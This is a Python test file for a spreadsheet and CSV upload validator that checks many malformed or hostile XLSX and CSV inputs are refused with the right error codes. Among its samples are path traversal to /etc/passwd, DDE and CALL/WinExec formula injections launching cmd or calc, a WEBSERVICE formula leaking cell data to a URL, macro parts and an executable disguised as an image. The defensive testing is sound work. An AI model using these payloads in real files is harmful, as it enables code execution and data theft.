refuse("too_many_elements", "E_TOO_MANY_ELEMENTS", lambda: book(more={"customXml/item1.xml":
    noisy_elements(2_100_000)}))
refuse("half_xml", "E_CORRUPT_XML", lambda: pack(parts_of() | {SHEET: parts_of()[SHEET][:300]}))
refuse("two_roots", "E_CORRUPT_XML", later((worksheet(table()) + "<x/>").encode()))
refuse("bad_utf8", "E_CORRUPT_XML", later(worksheet(data(cell("A1", "XX"))).encode().replace(b"XX",
    b"\xff\xfe")))
refuse("unknown_encoding", "E_CORRUPT_XML", later(worksheet(table()).replace("UTF-8",
    "X-NONE").encode()))
refuse("character_zero", "E_CORRUPT_XML", later(data(cell("A1", "&#0;"))))
refuse("undefined_entity", "E_CORRUPT_XML", later(data(cell("A1", "&nbsp;"))))
refuse("wrong_root", "E_CORRUPT_XML", later(f'{HEAD}<chartsheet xmlns="{MAIN}"/>'))
refuse("wrong_namespace", "E_CORRUPT_XML", later(worksheet(table(), space="urn:evil")))
refuse("no_sheet_data", "E_CORRUPT_XML", later("<sheetPr/>"))
refuse("two_sheet_data", "E_CORRUPT_XML", later(table() + table()))
refuse("nested_cells", "E_CORRUPT_XML", later(data('<c r="A1"><c r="B1"><v>1</v></c></c>')))
refuse("two_values", "E_CORRUPT_XML", later(data('<c r="A1"><v>1</v><v>2</v></c>')))
refuse("cells_in_wrapper", "E_CORRUPT_XML",
    later('<sheetData><x:any xmlns:x="urn:x"><row r="1"><c r="A1"><v>1</v></c></row></x:any></sheetData>'))
refuse("foreign_cells", "E_CORRUPT_XML",
    later(data('<c r="A1"><v>1</v></c><x:c xmlns:x="urn:x" r="B1"><v>5</v></x:c>')))
accept("utf16_sheet", later(worksheet(table()).replace("UTF-8", "UTF-16").encode("utf-16")),
    TABLE_VALUES)
accept("utf16_strings", later(data(cell("A1", 0, "s")),
    (f'<?xml version="1.0" encoding="UTF-16"?><sst xmlns="{MAIN}"><si><t>東京都</t></si></sst>').encode("utf-16")),
    {"A1": "東京都"})
accept("byte_order_mark", later(b"\xef\xbb\xbf" + worksheet(table()).encode()), TABLE_VALUES)
accept("latin_1", later(worksheet(data(cell("A1", "é"))).replace("UTF-8",
    "ISO-8859-1").encode("latin-1")), {"A1": "é"})
accept("marked_sections",
    later(data('<c r="A1" t="inlineStr"><is><t><![CDATA[a<b]]></t></is></c><c r="B1"><v><![CDATA[5]]></v></c>'
    '<c r="C1"><v>1<!--x-->2</v></c><c r="D1" t="inlineStr"><is><t>a&amp;b&#65;</t></is></c>')),
    {"A1": "a<b", "B1": 5, "C1": 12, "D1": "a&bA"})
accept("pretty_printed", later(table().replace("<", "\n  <").replace("\n  </t",
    "</t").replace("\n  </v", "</v")), TABLE_VALUES)
accept("prefixed", later(worksheet(data(cell("A1", 7))) .replace("<", "<x:") .replace("<x:/",
    "</x:") .replace("<x:?", "<?") .replace("xmlns=", "xmlns:x=")), {"A1": 7})
accept("extensions", later(table() +
    '<extLst><ext uri="{1}"><x14:c xmlns:x14="urn:x14"><x14:v>9</x14:v></x14:c></ext></extLst>',
    more={"xl/unknown/part1.xml": "<x/>", "xl/unknown/part2.bin": bytes(range(1, 60)),
    "customXml/item1.xml": "<root/>", "xl/printerSettings/printerSettings1.bin": bytes(2000)}),
    TABLE_VALUES)

# ---------------------------------------------------------------- the package

refuse("no_types", "E_CORRUPT_PACKAGE", later(without=("[Content_Types].xml",)))
refuse("no_workbook", "E_CORRUPT_PACKAGE", later(without=("xl/workbook.xml",)))
refuse("no_root_relations", "E_CORRUPT_PACKAGE", later(without=("_rels/.rels",)))
refuse("no_sheet_part", "E_CORRUPT_PACKAGE", later(without=(SHEET,)))
refuse("no_styles_part", "E_CORRUPT_PACKAGE", later(without=("xl/styles.xml",)))
refuse("no_workbook_relations", "E_CORRUPT_PACKAGE", later(without=("xl/_rels/workbook.xml.rels",)))
refuse("sheet_leads_outside", "E_CORRUPT_PACKAGE", lambda:
    rerouted(target="../../../../etc/passwd"))
refuse("sheet_on_the_net", "E_CORRUPT_PACKAGE", lambda: rerouted(target="http://127.0.0.1:9/s.xml",
    mode="External"))
refuse("unknown_arrow", "E_CORRUPT_PACKAGE", lambda: rerouted(kind="http://evil.example/worksheet"))
refuse("arrow_to_styles", "E_CORRUPT_PACKAGE", lambda: rerouted(target="styles.xml",
    kind=f"{OFFICE}/styles"))
refuse("wrong_type", "E_CORRUPT_PACKAGE", lambda: retyped("text/plain"))
refuse("two_documents", "E_CORRUPT_PACKAGE", lambda: pack(parts_of() | {"_rels/.rels":
    relations(("rId1", f"{OFFICE}/officeDocument", "xl/workbook.xml"), ("rId2",
    f"{OFFICE}/officeDocument", "xl/other.xml")).encode()}))
refuse("same_id_twice", "E_CORRUPT_PACKAGE", lambda: pack(parts_of() | {"_rels/.rels":
    relations(("rId1", f"{OFFICE}/officeDocument", "xl/workbook.xml"), ("rId1",
    f"{OFFICE}/officeDocument", "xl/other.xml")).encode()}))
refuse("same_part_twice", "E_CORRUPT_PACKAGE", lambda: many_sheets(2, same_part=True))
refuse("same_title_twice", "E_CORRUPT_PACKAGE", lambda: many_sheets(2, same_name=True))
refuse("too_many_sheets", "E_TOO_MANY_SHEETS", lambda: many_sheets(300))
refuse("no_sheets", "E_NOTHING_IN_IT", lambda: pack(parts_of() | {"xl/workbook.xml":
    f'<workbook xmlns="{MAIN}"><sheets/></workbook>'.encode()}))
refuse("chart_only", "E_NOTHING_IN_IT", lambda: rerouted(kind=f"{OFFICE}/chartsheet"))
refuse("no_values", "E_NOTHING_IN_IT", later(data('<c r="A1" s="1"/>')))
accept("absolute_target", lambda: rerouted(target="/xl/worksheets/sheet1.xml"), TABLE_VALUES)
accept("dotted_target", lambda: rerouted(target="../xl/./worksheets/sheet1.xml"), TABLE_VALUES)
accept("other_case", lambda: rerouted(target="Worksheets/Sheet1.XML"), TABLE_VALUES)
accept("no_strings_part", lambda: pack({name: body for name, body in parts_of(table(),
    "<si><t>x</t></si>").items() if name != "xl/sharedStrings.xml"}), TABLE_VALUES)
accept("no_styles", later(styles=None), TABLE_VALUES)
accept("strict", later(data(cell("A1", "2025-04-01", "d") + cell("B1", 45748, style=1)),
    space=STRICT, office=STRICT_OFFICE, styles=STYLES.replace(MAIN, STRICT)), {"A1":
    "date:2025-04-01", "B1": "date:2025-04-01"}, traits=["strict"])
accept("fifty_sheets", lambda: many_sheets(50), TABLE_VALUES, sheets=50)
accept("sheetjs_default_type",
    later(types=('<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>')),
    TABLE_VALUES)
accept("hidden_sheet", later(state=' state="hidden"'), TABLE_VALUES, hidden=True)
accept("very_hidden_sheet", later(state=' state="veryHidden"'), TABLE_VALUES, hidden=True)
accept("dead_names", lambda: book(inside="<definedNames>" +
    "".join(f'<definedName name="n{i}">#REF!</definedName>' for i in range(20_000)) +
    "</definedNames>"), TABLE_VALUES)
accept("many_styles", lambda: book(styles=STYLES.replace("</cellXfs>", "".join(
    f'<xf numFmtId="0" fontId="0" fillId="0" xfId="{i}"/>' for i in range(60_000)) + "</cellXfs>")),
    TABLE_VALUES)
accept("many_conditions", lambda: book(table() +
    "".join(f'<conditionalFormatting sqref="A{i}"><cfRule type="expression" priority="{i}">'
    f"<formula>A{i}&gt;1</formula></cfRule></conditionalFormatting>" for i in range(1, 30_001))),
    TABLE_VALUES)
accept("not_worked_out", later(data('<c r="A1"><f>1+1</f><v>0</v></c>'),
    inside='<calcPr fullCalcOnLoad="1"/>'), {"A1": 0},
    traits=["recalculation_pending"])

# ---------------------------------------------------------------- what must not travel

VBA = ole("_VBA_PROJECT", "VBA")
refuse("macro", "E_MACRO", later(more={"xl/vbaProject.bin": VBA}))
refuse("macro_by_type", "E_MACRO", lambda:
    retyped("application/vnd.ms-excel.sheet.macroEnabled.main+xml"))
refuse("macro_as_picture", "E_MACRO", later(more={"xl/media/image1.png": VBA}))
refuse("macro_override", "E_MACRO",
    later(types=('<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    more={"xl/a.bin": b"x"}))
refuse("macro_sheet", "E_MACRO", later(more={"xl/macrosheets/sheet1.xml": "<x/>"}))
refuse("macro_sheet_renamed", "E_MACRO", lambda: rerouted(kind=f"{MS}/xlMacrosheet"), at="表")
refuse("dialog_sheet", "E_MACRO", lambda: rerouted(kind=f"{OFFICE}/dialogsheet"), at="表")
refuse("active_x", "E_ACTIVE_X", later(more={"xl/activeX/activeX1.xml": "<x/>"}))
refuse("active_x_renamed", "E_ACTIVE_X", later(sheet_relations=arrow("control", "../parts/a.xml"),
    more={"xl/parts/a.xml": "<x/>"}), at="表")
refuse("embedded", "E_EMBEDDED_OBJECT", later(sheet_relations=arrow("oleObject",
    "../embeddings/oleObject1.bin"), more={"xl/embeddings/oleObject1.bin": ole("Package")}), at="表")
refuse("embedded_docx", "E_EMBEDDED_OBJECT", later(sheet_relations=arrow("package",
    "../embeddings/a.docx"), more={"xl/embeddings/a.docx": b"x"}), at="表")
refuse("embedded_unlinked", "E_EMBEDDED_OBJECT", later(more={"xl/embeddings/a.bin": b"hello"}))
refuse("program_as_picture", "E_EMBEDDED_OBJECT", later(more={"xl/media/image1.png": b"MZ\x90\0" +
    bytes(99)}))
refuse("dde_link", "E_DDE", later(more={"xl/externalLinks/externalLink1.xml":
    f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}))
for _name, _formula in (
    ("cmd", "cmd|'/C calc'!A0"), ("plus", "A1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''"),
    ("webservice", '_xlfn.WEBSERVICE("http://127.0.0.1:9/"&amp;A1)'), ("call", 'CALL("Kernel32","WinExec","JCJ","calc",0)'),
    ("register", 'REGISTER.ID("a","b")'), ("rtd", 'rtd("x",,"y")'),
):  # fmt: skip
    refuse(f"formula_{_name}", "E_DDE", later(data(f'<c r="B1"><f>{_formula}</f><v>1</v></c>')),
        at="表!B1")
accept("formula_as_text", later(data(cell("A1", "=cmd|'/C calc'!A0") + cell("B1", "+1+1"))), {"A1":
    "=cmd|'/C calc'!A0", "B1": "+1+1"}, formulas={})
accept("harmless_formulas",
    later(data('<c r="A1" t="str"><f>HYPERLINK("http://127.0.0.1:9/","x")</f><v>x</v></c>'
    '<c r="B1" t="str"><f>"a|b"</f><v>a|b</v></c><c r="C1"><f>\'a|b\'!A1</f><v>3</v></c>'
    '<c r="D1" t="str"><f>IF(1,"")</f><v></v></c><c r="E1"><f t="shared" si="0" ref="E1:F1">A1+1</f><v>4</v></c>'
    '<c r="F1"><f t="shared" si="0"/><v>5</v></c><c r="G1"><f>RECALL(1)</f><v>6</v></c>')), {"A1":
    "x", "B1": "a|b", "C1": 3, "D1": None, "E1": 4, "F1": 5, "G1": 6}, formulas={"A1":
    '=HYPERLINK("http://127.0.0.1:9/","x")', "B1": '="a|b"', "C1": "='a|b'!A1", "D1": '=IF(1,"")',
    "E1": "=A1+1", "F1": "E1 と同じ式", "G1": "=RECALL(1)"})
accept("outside_links", later(data('<c r="A1"><f>[1]S!A1</f><v>3</v></c>'),
    workbook_relations=(("rId9", f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml"),),
    more={"xl/externalLinks/externalLink1.xml":
    f'<externalLink xmlns="{MAIN}"><externalBook/></externalLink>'}), {"A1": 3},
    traits=["external_links"])
accept("connections", later(workbook_relations=(("rId9", f"{OFFICE}/connections",
    "connections.xml"),), more={"xl/connections.xml": f'<connections xmlns="{MAIN}"/>'}),
    TABLE_VALUES, traits=["connections"])
accept("huge_picture", lambda: with_drawing(png(50_000, 50_000)), TABLE_VALUES, objects=["画像"])
accept("broken_picture", lambda: with_drawing(b"not a picture"), TABLE_VALUES, objects=["画像"])
accept("svg_with_doctype", lambda:
    with_drawing(b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>',
    "image1.svg"), TABLE_VALUES)
accept("shapes_and_chart", lambda: with_drawing(png(1, 1), inner="<xdr:sp/><xdr:graphicFrame/>"),
    TABLE_VALUES, objects=["グラフ", "図形・テキストボックス"])
accept("comments", later(sheet_relations=relations(("rId1", f"{OFFICE}/comments",
    "../comments1.xml"), ("rId2", f"{OFFICE}/vmlDrawing", "../drawings/vmlDrawing1.vml")),
    more={"xl/comments1.xml":
    f'<comments xmlns="{MAIN}"><commentList><comment ref="A1"/><comment ref="A2"/></commentList></comments>',
    "xl/drawings/vmlDrawing1.vml": "<xml><v:shape>line<br>line</v:shape></xml>"}), TABLE_VALUES,
    comments=2, objects=[])
accept("form_control", later(sheet_relations=arrow("ctrlProp", "../ctrlProps/ctrlProp1.xml"),
    more={"xl/ctrlProps/ctrlProp1.xml": "<x/>"}), TABLE_VALUES, objects=["フォームコントロール"])
accept("links_out", later(sheet_relations=arrow("hyperlink", "http://127.0.0.1:9/&amp;x",
    "External")), TABLE_VALUES)

# ---------------------------------------------------------------- the cells

for _number, _reference in enumerate((
    "ZZZZZ99999999999", "A99999999", "XFE1", "A0", "A", "", "$A$1", "A-1", "１Ａ", "A1:B2", "A1048577", "A2",
)):  # fmt: skip
    refuse(f"reference_{_number}", "E_CORRUPT_XML",
        later(data(f'<c r="{_reference}"><v>1</v></c>')))
for _number, _row in enumerate(("99999999999999", "-1", "0", "1048577", "x", "１")):
    refuse(f"row_{_number}", "E_CORRUPT_XML",
        later(f'<sheetData><row r="{_row}"><c><v>1</v></c></row></sheetData>'))
refuse("same_cell_twice", "E_DUPLICATE_CELL", later(data(cell("A1", 11) + cell("A1", 77))),
    at="表!A1")
refuse("emptied_by_twin", "E_DUPLICATE_CELL", later(data(cell("A1", 11) + '<c r="A1"/>')),
    at="表!A1")
refuse("cells_unordered", "E_DUPLICATE_CELL", later(data(cell("B1", 1) + cell("A1", 2))), at="表!A1")
refuse("rows_unordered", "E_DUPLICATE_CELL",
    later(f'<sheetData><row r="3">{cell("A3", 1)}</row><row r="2">{cell("A2", 1)}</row></sheetData>'),
    at="表!A2")
FAR = '<row r="1048576"><c r="XFD1048576"{}</c></row></sheetData>'
_NEAR = table().removesuffix("</sheetData>")
refuse("far_value", "E_TOO_MANY_ROWS", later(_NEAR + FAR.format("><v>1</v>")), at="表!XFD1048576")
refuse("far_error", "E_TOO_MANY_ROWS", later(_NEAR + FAR.format(' t="e"><v>#N/A</v>')),
    at="表!XFD1048576")
refuse("far_column", "E_TOO_MANY_COLUMNS", later(data(cell("GS1", 1))), at="表!GS1")
refuse("rows_20001", "E_TOO_MANY_ROWS", lambda: book(filled(20_001, 1)), at="表!A20001")
refuse("cells_520000", "E_TOO_MANY_CELLS", lambda: book(filled(20_000, 26)), at="表!U19231")
for _name, _inside, _strings in (
    ("blank", ' t="inlineStr"><is><t> 　</t></is>', None),
    ("blank_shared", ' t="s"><v>0</v>', "<si><t> </t></si>"),
    ("no_text", ' t="s"><v>0</v>', "<si><t></t></si>"),
    ("formula_blank", ' t="str"><f>""</f><v></v>', None),
):
    refuse(f"far_{_name}", "E_TOO_MANY_ROWS", later(_NEAR + FAR.format(_inside), _strings),
        at="表!XFD1048576")
accept("far_styled", later(_NEAR + FAR.format(' s="8">')), TABLE_VALUES, rows=3)
accept("corner_of_limits", later(_NEAR + f'<row r="20000">{cell("GR20000", 1)}</row></sheetData>'),
    TABLE_VALUES | {"GR20000": 1}, rows=20_000)
accept("false_dimension_large", later('<dimension ref="A1:XFD1048576"/>' + table()), TABLE_VALUES,
    rows=3)
accept("false_dimension_small", later('<dimension ref="A1"/>' + table()), TABLE_VALUES, rows=3)
refuse("garbage_dimension", "E_UNREADABLE",
    later('<dimension ref="ZZZZZ999:QQ"/>' + table()))
accept("lower_case", later(data('<c r="b1"><v>1</v></c>')), {"A1": None, "B1": 1})
accept("no_references",
    later("<sheetData><row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>"
    '<row r="7"><c><v>7</v></c><c r="D7"><v>8</v></c><c><v>9</v></c></row></sheetData>'), {"A1": 1,
    "B1": 2, "A2": 3, "A7": 7, "B7": None, "D7": 8, "E7": 9})
accept("row_gaps",
    later(f'<sheetData><row r="5">{cell("C5", "x")}</row><row r="90">{cell("A90", 1)}</row></sheetData>'),
    {"C5": "x", "A90": 1, "A50": None}, rows=90)
accept("styled_below", lambda: book(coloured(20_000, columns="ABCDEFGH")), TABLE_VALUES, rows=3)
refuse("coloured_to_the_end", "E_TOO_MANY_ELEMENTS", lambda: book(coloured(1_048_576)))
accept("coloured_columns",
    later('<cols><col min="1" max="16384" width="9" style="8" customWidth="1"/></cols>' + table()),
    TABLE_VALUES)
accept("hidden_rows_and_columns",
    later('<cols><col min="2" max="2" hidden="1"/><col min="9" max="16384" hidden="1"/></cols>' +
    table() .replace('<row r="2">', '<row r="2" hidden="1">') .replace("</sheetData>",
    '<row r="9" hidden="1"/></sheetData>')), TABLE_VALUES, hidden_rows=[1], hidden_columns=[1])
refuse("strings_too_many", "E_TOO_MANY_STRINGS", lambda: book(data(cell("A1", 0, "s")),
    "".join(f"<si><t>{i}</t></si>" for i in range(200_001))))
refuse("strings_too_much", "E_TOO_MANY_STRINGS", lambda: book(data(cell("A1", 0, "s")),
    "".join(f"<si><t>{_noise(39_000)}</t></si>" for i in range(420))))
refuse("string_too_long", "E_CELL_TOO_LONG", lambda: book(data(cell("A1", 0, "s")),
    f"<si><t>{'a' * 40_001}</t></si>"))
refuse("inline_too_long", "E_CELL_TOO_LONG", lambda: book(data(cell("A1", "a" * 40_001))), at="表!A1")
refuse("four_megabytes", "E_CELL_TOO_LONG", lambda: book(data(cell("A1", _noise(4_000_000)))),
    at="表!A1")
for _number, _index in enumerate(("5", "18446744073709551615", "-1", "x", "１")):
    refuse(f"string_index_{_number}", "E_CORRUPT_XML", later(data(cell("A1", _index, "s")),
        "<si><t>x</t></si>"), at="表!A1")
refuse("false_string_count", "E_CORRUPT_XML", later(data(cell("A1", 0, "s")),
    (f'{HEAD}<sst xmlns="{MAIN}" count="99999999999" uniqueCount="99999999999"><si><t>x</t></si></sst>')))
accept("furigana", later(data(cell("A1", 0, "s") +
    '<c r="B1" t="inlineStr"><is><t>京都府</t><rPh sb="0" eb="2"><t>キョウト</t></rPh></is></c>'),
    '<si><t>東京都</t><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr fontId="1"/></si>'), {"A1":
    "東京都", "B1": "京都府"})
accept("rich_text", later(data(cell("A1", 0, "s") + cell("B1", 1, "s") +
    '<c r="C1" t="inlineStr"><is><r><t xml:space="preserve">a </t></r><r><rPr><u/></rPr><t>b</t></r></is></c>'),
    "<si><r><rPr><b/></rPr><t>北海</t></r><r><rPr><u/></rPr><t>道</t></r></si><si><t>青森県</t></si>"),
    {"A1": "北海道", "B1": "青森県", "C1": "a b"}, emphasised=["A1", "C1"])
accept("emphasised", later(data(cell("A1", 1, style=8) + cell("B1", 2) + '<c r="C1" s="8"/>')),
    {"A1": 1}, emphasised=["A1"])
for _name, _number in (
    ("nan", "nan"), ("infinite", "1e999"), ("long", "9" * 100_000), ("tiny", f"0.{'0' * 90}1"), ("wide", "１２"), ("hex", "0x1F"),
    ("underscore", "1_000"), ("comma", "1,000"), ("word", "twelve"), ("infinity", "Infinity"),
):  # fmt: skip
    refuse(f"number_{_name}", "E_NOT_A_NUMBER", later(data(cell("B1", _number, "n"))), at="表!B1")
NUMBERS = (
    ("1", 1), ("1.0", 1), ("-5", -5), ("1E3", 1000), ("0.1", 0.1), (" 7 ", 7), ("1e300", 1e300),
    ("+2", 2), ("123456789012345", 123456789012345), ("1234567890123456789", 1.2345678901234568e18),
)
accept("numbers", later(data("".join(cell(f"{column_letters(i)}1", raw, "n")
    for i, (raw, _) in enumerate(NUMBERS)))),
    {f"{column_letters(i)}1": value for i, (_, value) in enumerate(NUMBERS)})
refuse("formula_without_value", "E_FORMULA_NO_VALUE", later(data(cell("A1", 1) +
    '<c r="B1"><f>A1+1</f></c>')), at="表!B1")
refuse("formula_empty_value", "E_FORMULA_NO_VALUE", later(data('<c r="B1"><f>A1+1</f><v></v></c>')),
    at="表!B1")
refuse("formula_text_without", "E_FORMULA_NO_VALUE",
    later(data('<c r="B1" t="str"><f>A1&amp;"x"</f></c>')), at="表!B1")
accept("errors", later(data("".join(cell(f"{column_letters(i)}1", e, "e") for i, e in
    enumerate(("#REF!", "#N/A", "#DIV/0!", "#SPILL!", "#GETTING_DATA", "#NAME?"))))), {"A1": None,
    "F1": None}, errors={"A1": "#REF!", "B1": "#N/A", "C1": "#DIV/0!", "D1": "#SPILL!", "E1":
    "#GETTING_DATA", "F1": "#NAME?"})
refuse("error_garbage", "E_CORRUPT_XML", later(data(cell("A1", "oops", "e"))), at="表!A1")
refuse("boolean_garbage", "E_CORRUPT_XML", later(data(cell("A1", "7", "b"))), at="表!A1")
refuse("type_garbage", "E_CORRUPT_XML", later(data(cell("A1", "7", "zz"))), at="表!A1")
accept("booleans", later(data(cell("A1", "1", "b") + cell("B1", "false", "b"))), {"A1": True, "B1":
    False})
for _number, _text in enumerate(("a_x0000_b", "_x001B_[31m", "_xD800_", "_xFFFF_")):
    refuse(f"control_{_number}", "E_CONTROL_CHARACTER", later(data(cell("B1", 0, "s")),
        f"<si><t>{_text}</t></si>"), at="表!B1")
refuse("control_inline", "E_CONTROL_CHARACTER", later(data(cell("B1", "a_x0008_"))), at="表!B1")
accept("escapes", later(data(cell("A1", "a_x000D_&#10;b") + cell("B1", "_x005F_x0000_") + cell("C1",
    "_xD83D__xDE00_") + cell("D1", "a_x000B_b"))), {"A1": "a\nb", "B1": "_x0000_", "C1": "😀", "D1":
    "a\nb"})
accept("unused_control", later(data(cell("A1", 0, "s")),
    "<si><t>x</t></si><si><t>_x0000_</t></si>"), {"A1": "x"})
_MERGED = "{}<mergeCells>{}</mergeCells>"
refuse("merge_everything", "E_MERGE_TOO_LARGE", later(_MERGED.format(table(),
    '<mergeCell ref="A60:XFD1048576"/>')), at="表!A60:XFD1048576")
refuse("merge_column", "E_MERGE_TOO_LARGE", later(_MERGED.format(table(),
    '<mergeCell ref="A2:A1048576"/>')), at="表!A2:A1048576")
refuse("merges_many", "E_TOO_MANY_MERGES", lambda: book(_MERGED.format(table(),
    "".join(f'<mergeCell ref="A{i}:B{i}"/>' for i in range(10, 50_010)))), at="表")
refuse("merges_wide", "E_MERGE_TOO_LARGE", lambda: book(_MERGED.format(table(),
    "".join(f'<mergeCell ref="A{i}:GR{i + 99}"/>' for i in range(10, 10_010, 100)))))
for _number, _reference in enumerate(("ZZZZZ9999999999:A1", "A1:XFE1", "A:B", "", "A1:B1048577")):
    refuse(f"merge_garbage_{_number}", "E_CORRUPT_XML", later(_MERGED.format(table(),
        f'<mergeCell ref="{_reference}"/>')))
accept("merges", later(_MERGED.format(table(),
    '<mergeCell ref="A1:B1"/><mergeCell ref="D3:C2"/><mergeCell ref="A5"/>')), TABLE_VALUES,
    merges=[[0, 0, 0, 1], [1, 2, 2, 3]])
# Number, style, what it is, the format that is told.
MOMENTS = (
    (45748, 1, "date:2025-04-01", "yyyy/m/d"), (45748, 2, "date:2025-04-01", "[$-411]ge.m.d"),
    (45748, 3, "date:2025-04-01", '[$-411]ggge"年"m"月"d"日";@'), (1.5, 4, "36:00", None),
    (0.5, 5, "time:12:00:00", "h:mm"), (45748.5, 1, "datetime:2025-04-01T12:00:00", "yyyy/m/d"),
    (45748, 6, "date:2025-04-01", 'yyyy"年"m"月"'), (12, 7, 12, None), (59, 1, "date:1900-02-28", "yyyy/m/d"),
    # A day that never was, no day at all, and numbers that are no date.
    (60, 1, "1900-02-29", None), (61, 1, "date:1900-03-01", "yyyy/m/d"), (0, 1, 0, None), (-1, 1, -1, None),
    (2958465, 1, "date:9999-12-31", "yyyy/m/d"), (2958466, 1, 2958466, None),
    (45748.999999999, 1, "date:2025-04-02", "yyyy/m/d"),
)
accept("dates", later(data("".join(cell(f"{column_letters(i)}1", moment[0], style=moment[1])
    for i, moment in enumerate(MOMENTS)))),
    {f"{column_letters(i)}1": moment[2] for i, moment in enumerate(MOMENTS)},
    formats={f"{column_letters(i)}1": moment[3] for i, moment in enumerate(MOMENTS) if moment[3]})
accept("dates_1904", later(data(cell("A1", 44286, style=1) + cell("B1", 0, style=1)),
    inside='<workbookPr date1904="1"/>'), {"A1": "date:2025-04-01", "B1": "date:1904-01-01"},
    traits=["date1904"])
accept("dates_iso", later(data(cell("A1", "2025-04-01T00:00:00", "d") + cell("B1",
    "2025-04-01T09:30:00Z", "d") + cell("C1", "R7.4.1", "d"))), {"A1": "date:2025-04-01", "B1":
    "datetime:2025-04-01T09:30:00", "C1": "R7.4.1"})

# ---------------------------------------------------------------- CSV

LINES = "団体コード,都道府県,設置状況,参加市町村数\n01,北海道,設置済み,12\n13,東京都,未設置,0\n"
CSV_VALUES = {"A1": "団体コード", "A2": "01", "B2": "北海道", "D2": "12", "D3": "0"}


def csv_accept(
    name: str, content: bytes, encoding: str = "utf-8", delimiter: str = ",", values=None, **facts
):
    """Add a CSV that must be read."""
    accept(name, content, CSV_VALUES if values is None else values, f"{name}.csv",
           encoding=encoding, delimiter=delimiter, **facts)  # fmt: skip


def csv_refuse(name: str, code: str, content: bytes | Callable[[], bytes], at: str = ""):
    """Add a CSV that must be refused."""
    refuse(name, code, content, f"{name}.csv", f"{name}!{at}" if at else "")


csv_accept("csv_utf8", LINES.encode())
csv_accept("csv_bom", LINES.encode("utf-8-sig"), "utf-8-sig")
csv_accept("csv_cp932", LINES.encode("cp932"), "cp932")
csv_accept("csv_cp932_signs", LINES.replace("未設置", "①㈱髙－～").encode("cp932"), "cp932", values={"C3":
    "①㈱髙－～"})
csv_accept("csv_utf16", LINES.replace(",", "\t").encode("utf-16"), "utf-16", "\t")
csv_accept("csv_tab", LINES.replace(",", "\t").encode(), delimiter="\t")
csv_accept("csv_semicolon", LINES.replace(",", ";").encode(), delimiter=";")
csv_accept("csv_semicolon_with_commas", LINES.replace(",", ";").replace("北海道", "北,海,道").encode(),
    delimiter=";", values={"B2": "北,海,道"})
csv_accept("csv_lone_cr", LINES.replace("\n", "\r").encode())
csv_accept("csv_crlf", LINES.replace("\n", "\r\n").encode())
csv_accept("csv_no_last_break", LINES.strip().encode())
csv_accept("csv_quoted", b"\xef\xbb\xbf" + '"団体コード","都道府県"\r\n"01","北海道\nと ""雪"", 他"\r\n'.encode(),
    "utf-8-sig", values={"A2": "01", "B2": '北海道\nと "雪", 他'})
csv_accept("csv_spaced_quotes", '団体コード, "都道府県", "備考"\n01, "北海道", "a,b"\n'.encode(), values={"B1":
    "都道府県", "C2": "a,b"})
csv_accept("csv_short_rows", (LINES + "47,沖縄県\n").encode(), values={"B4": "沖縄県", "D4": None})
csv_accept("csv_empty_beyond", (LINES + "47,沖縄県,未設置,0,,,,\n").encode(), values={"D4": "0"})
csv_accept("csv_unnamed_column", LINES.replace("参加市町村数\n", "参加市町村数,\n").replace("12\n",
    "12,メモ\n").encode(), values={"E2": "メモ"})
csv_accept("csv_title_above", ("令和7年度調査\n\n" + LINES).encode(), values={"A1": "令和7年度調査", "A3":
    "団体コード", "B4": "北海道"})
csv_accept("csv_blank_rows", (LINES + ",,,\n" * 100_000).encode(), rows=3)
csv_accept("csv_separator_line", ("sep=;\n" + LINES.replace(",", ";")).encode(), delimiter=";")
csv_accept("csv_dos_end", (LINES + "\x1a").encode())
csv_accept("csv_formula_text", (LINES + "=1+1,@x,+1,-1\n").encode(), values={"A4": "=1+1", "B4":
    "@x"})
csv_accept("csv_named_like_program", ("BM" + LINES).encode(), values={"A1": "BM団体コード"})
accept("csv_txt", LINES.encode(), CSV_VALUES, "報告.txt")
accept("csv_tsv", LINES.replace(",", "\t").encode(), CSV_VALUES, "報告.tsv")
csv_refuse("csv_nul", "E_CSV_NUL", LINES.encode() + b"14,\0,a,1\n", "A4")
csv_refuse("csv_utf16_no_mark", "E_ENCODING", LINES.encode("utf-16-le"))
csv_refuse("csv_utf32", "E_ENCODING", LINES.encode("utf-32"))
csv_refuse("csv_euc", "E_ENCODING", LINES.encode("euc_jp"))
csv_refuse("csv_jis", "E_ENCODING", LINES.encode("iso2022_jp"))
csv_refuse("csv_gb", "E_ENCODING", LINES.encode("gb18030"))
csv_refuse("csv_broken_bom", "E_ENCODING", LINES.encode("utf-8-sig")[:-40] + b"\xff\n")
csv_refuse("csv_broken_utf8", "E_ENCODING", LINES.encode() + b"47,\x81\xff,a,1\n")
csv_refuse("csv_half_utf16", "E_ENCODING", LINES.encode("utf-16")[:-1])
csv_refuse("csv_mark_only", "E_NOTHING_IN_IT", b"\xef\xbb\xbf")
csv_refuse("csv_blanks_only", "E_NOTHING_IN_IT", b" \r\n\r\n\t ")
csv_refuse("csv_commas_only", "E_NOTHING_IN_IT", b",,,\n,,,\n")
csv_refuse("csv_open_quote", "E_CSV_QUOTE", (LINES + '47,"沖縄県,未設置,0\n').encode(), "A4")
csv_refuse("csv_open_quote_long", "E_CSV_QUOTE", ('団体コード,"都道府県\n' + "01,北海道\n" * 9000).encode(),
    "A1")
csv_refuse("csv_behind_quote", "E_CSV_QUOTE", (LINES + '47,"沖縄"県,未設置,0\n').encode(), "A4")
csv_refuse("csv_too_wide", "E_CSV_WIDTH", (LINES + "47,沖縄県,未設置,1,234\n").encode(), "E4")
csv_refuse("csv_rows", "E_TOO_MANY_ROWS", lambda: (LINES + "01,北海道,a,1\n" * 20_000).encode(),
    "A20001")
csv_refuse("csv_columns", "E_TOO_MANY_COLUMNS", lambda: (",".join(f"列{i}" for i in range(20_000)) +
    "\n").encode(), "A1")
csv_refuse("csv_cells", "E_TOO_MANY_CELLS", lambda: ((",".join("列" * 100) + "\n") * 5_100).encode(),
    "A5001")
